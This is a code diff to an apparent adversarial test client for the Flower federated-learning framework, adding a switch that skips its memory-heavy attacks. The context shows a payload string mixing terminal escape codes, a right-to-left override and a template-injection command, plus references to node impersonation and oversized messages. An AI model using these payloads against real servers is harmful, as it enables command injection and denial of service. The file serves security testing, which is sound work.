@@ -3,7 +3,8 @@
 """A site with a registered key that speaks Flower's protocol itself, and answers each round with another attack.
 
 evil_site.py ADDRESS AUTHORITY KEY NODES REPORT: NODES are the ids of the other SuperNodes, with commas. What it got
-goes to REPORT, after every round. It ends when it is told to.
+goes to REPORT, after every round. While there is a file REPORT.small, it leaves out what takes the SuperLink hundreds
+of megabytes. It ends when it is told to.
 """
 
 from __future__ import annotations
@@ -46,6 +47,7 @@ from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e{{ lookup('pipe', 'touch /tmp/owned-by-template') }}"
 MEGABYTE = 1 << 20
 PAUSE = 0.5
+LARGE = ("5,000 metrics", "64 MB more", "20 MB of an error", "200,000 names", "a table too deep")
 
 
 def numpy_file(dtype: str, shape: str, content: bytes) -> bytes:
@@ -206,6 +208,7 @@ def as_somebody_else(address: str, authority: str, keys: tuple[Any, Any], nodes:
 def main() -> None:
     """Attack until somebody ends it."""
     address, authority, key_file, nodes, report = sys.argv[1:6]
+    small = Path(f"{report}.small")
     private = load_ssh_private_key(Path(key_file).read_bytes(), None)
     keys = (private, private.public_key())
     told: dict[str, Any] = {"rounds": [], "problems": []}
@@ -238,7 +241,8 @@ def main() -> None:
                 run = _get_run(run_id)
                 site = Site(message, kit_of(get_fab(run.fab_hash, run_id).content))
                 attacks = site.attacks()
-                name = list(attacks)[len(told["rounds"]) % len(attacks)]
+                names = [name for name in attacks if not (small.exists() and name.startswith(LARGE))]
+                name = names[len(told["rounds"]) % len(names)]
                 made = attacks[name]()
                 reply = Message(made, reply_to=message)
                 reply.metadata.__dict__["_message_id"] = reply.object_id
